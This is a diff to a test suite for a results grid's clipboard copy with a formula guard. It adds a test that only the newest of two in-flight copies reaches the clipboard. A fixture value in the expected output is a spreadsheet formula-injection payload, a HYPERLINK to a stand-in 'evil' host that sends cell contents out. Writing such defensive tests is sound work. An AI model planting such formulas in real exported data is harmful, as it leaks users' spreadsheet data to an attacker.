@@ -267,6 +267,31 @@ describe("copying from the grid with the formula guard", () => {
     g.destroy();
   });
 
+  it("lets only the newest of two copies in flight reach the clipboard", async () => {
+    const pages: Array<(page: RowPage) => void> = [];
+    const fetchRows = vi.fn((_id: string, _offset: number, _limit: number) => new Promise<RowPage>((resolve) => pages.push(resolve)));
+    const copy = vi.fn((_: string) => Promise.resolve());
+    const onCopied = vi.fn();
+    const g = new ResultGrid(root, { fetchRows, onError: vi.fn(), copy, onCopied, overscan: 2 });
+    g.show(HOSTILE);
+    await frame();
+    const resolveShown = pages.splice(0);
+    resolveShown.forEach((resolve) => resolve({ rows: HOSTILE_ROWS }));
+    await frame();
+    g.select({ row: 0, column: 0 }, { row: 2, column: 1 });
+    const guarded = g.copySelection("tsv");
+    const asIs = g.copySelection("tsv", "as-is");
+    expect(pages).toHaveLength(2);
+    pages[1]({ rows: HOSTILE_ROWS });
+    pages[0]({ rows: HOSTILE_ROWS });
+    expect(await asIs).toBe(`n\tnote\n-5\t"=HYPERLINK(""http://evil/?""&A1,""x"")"\n3\tplain\n-1\t@SUM(A1)\n`);
+    expect(await guarded).toBeNull();
+    expect(copy).toHaveBeenCalledTimes(1);
+    expect(onCopied).toHaveBeenCalledTimes(1);
+    expect(onCopied).toHaveBeenLastCalledWith("Copied 3 rows as TSV, values as-is (no formula guard).");
+    g.destroy();
+  });
+
   it("copies values as-is when asked, and says so", async () => {
     const { g, copy, onCopied } = await grid();
     g.select({ row: 0, column: 0 }, { row: 2, column: 1 });
